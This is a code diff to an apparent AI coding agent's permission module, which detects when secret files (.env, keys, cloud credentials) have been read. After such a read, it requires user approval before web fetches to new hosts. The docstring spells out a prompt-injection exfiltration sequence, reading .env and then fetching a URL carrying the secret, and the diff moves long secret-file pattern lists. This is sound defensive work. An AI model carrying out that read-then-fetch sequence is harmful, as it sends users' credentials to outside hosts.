@@ -4,7 +4,7 @@ asks before it reaches a new host.
 ``read_file .env`` then ``web_fetch https://host/?d=<what it said>`` is how a prompt-injected
 model sends a secret away with no question: web_fetch is read-only, so it runs freely. The
 values the agent holds itself are refused in any URL (``iaccode/tools/web_fetch.py``); a file's
-secrets are not known to us, so after a call that read one (:func:`is_secret_file`: ``.env*``,
+secrets are not known to us, so after a call that read one (:mod:`iaccode.secret_files`: ``.env*``,
 ``*.tfvars``, ``*.tfstate``, key and credentials files, any file in ``~/.kube``, ``~/.aws``
 and the like, data files named for a secret) every web_fetch to a host the user has
 not allowed in this session asks first, saying which file was read. The answer holds for that
@@ -28,7 +28,6 @@ A session loaded again remembers it from its stored tool calls.
 
 from __future__ import annotations
 
-import fnmatch
 import re
 from collections.abc import Callable, Iterable, Iterator
 from typing import TYPE_CHECKING, Any
@@ -39,74 +38,11 @@ from attrs import evolve, frozen
 from iaccode.iac.shell import simple_commands
 from iaccode.protocol.content import TextContent
 from iaccode.protocol.tool_calls import ContentToolCallContent, PermissionOption, ToolCallFields
+from iaccode.secret_files import is_secret_file
 
 if TYPE_CHECKING:
     from iaccode.tools.base import Tool
 
-SECRET_FILES = (
-    ".env",
-    ".env.*",
-    ".envrc",
-    "*.env",
-    "*.tfvars",
-    "*.tfvars.json",
-    "*.tfstate",
-    "*.tfstate.*",
-    "*.pem",
-    "*.key",
-    "*.p12",
-    "*.pfx",
-    "*.jks",
-    "*.keystore",
-    "*.ppk",
-    "id_rsa",
-    "id_dsa",
-    "id_ecdsa",
-    "id_ed25519",
-    "credentials",
-    "credentials.*",
-    "*.credentials",
-    "*credentials*.json",
-    "service-account*.json",
-    ".netrc",
-    "_netrc",
-    ".pgpass",
-    ".my.cnf",
-    ".git-credentials",
-    ".npmrc",
-    ".pypirc",
-    ".htpasswd",
-    ".dockercfg",
-    "secrets.yml",
-    "secrets.yaml",
-    "secrets.json",
-    "*.secret",
-    "*.secrets",
-    "kubeconfig",
-    ".terraformrc",
-    "terraform.rc",
-    "credentials.tfrc.json",
-    ".vault-token",
-)
-"""File names (any case) that hold secrets: matched against the last part of a path."""
-SECRET_FOLDERS = (
-    ".ssh",
-    ".aws",
-    ".kube",
-    ".docker",
-    ".aliyun",
-    ".azure",
-    ".oci",
-    ".gnupg",
-    ".password-store",
-    ".config/gh",
-    ".config/gcloud",
-    ".config/hub",
-)
-"""Folders (any case) whose files hold credentials whatever their names (``~/.kube/config``,
-``~/.aliyun/config.json``, ``~/.config/gh/hosts.yml``): matched against a path's folders."""
-SECRET_DATA = re.compile(r".*secret.*\.(ya?ml|json|toml|ini|conf|cfg|properties|txt)$")
-"""Data files named for a secret (a Kubernetes ``db-secret.yaml``); not code (``secret.py``)."""
 
 SECRET_COMMANDS = tuple(
     tuple(line.split())
@@ -197,19 +133,9 @@ MAX_OUTPUT_CHARS = 1_000_000
 """Of a tool's output, the part looked at for grep's lines."""
 
 ALLOW_HOST = "allow_host"
-
-
-def is_secret_file(path: str) -> bool:
-    parts = path.lower().rstrip("/").split("/")
-    name = parts[-1]
-    if not name:
-        return False
-    folders = "/" + "/".join(parts[:-1]) + "/"
-    return (
-        any(fnmatch.fnmatchcase(name, pattern) for pattern in SECRET_FILES)
-        or SECRET_DATA.match(name) is not None
-        or any(f"/{folder}/" in folders for folder in SECRET_FOLDERS)
-    )
+SEARCHED = "secretsFileSearched"
+"""The key of a call's ``rawOutput`` that names the secrets file it searched (a loaded session
+remembers it)."""
 
 
 def _strings(data: Any) -> Iterator[str]:
@@ -331,6 +257,9 @@ class Exposure:
                 end = record.get("end")
                 if isinstance(end, dict):
                     exposure.note_output("\n".join(_strings(end.get("content"))))
+                    searched = end.get("rawOutput")
+                    if isinstance(searched, dict) and isinstance(searched.get(SEARCHED), str):
+                        exposure.note_searched(searched[SEARCHED])
         return exposure
 
     def note(self, raw_input: Any, paths: Iterable[str] = ()) -> None:
@@ -344,6 +273,11 @@ class Exposure:
         """Such a call's output: remember the secrets file whose lines it shows, if any."""
         if self.secrets is None and (shown := secret_file_shown(output)):
             self.secrets = SecretsRead(shown)
+
+    def note_searched(self, path: str) -> None:
+        """Such a call searched a secrets file (:meth:`iaccode.tools.base.Tool.searched`)."""
+        if self.secrets is None:
+            self.secrets = SecretsRead(path)
 
     def host_to_ask(self, tool: Tool, args: Any, mode: str) -> str | None:
         """The host a call of a tool that reaches the open world (kind "fetch": web_fetch, an
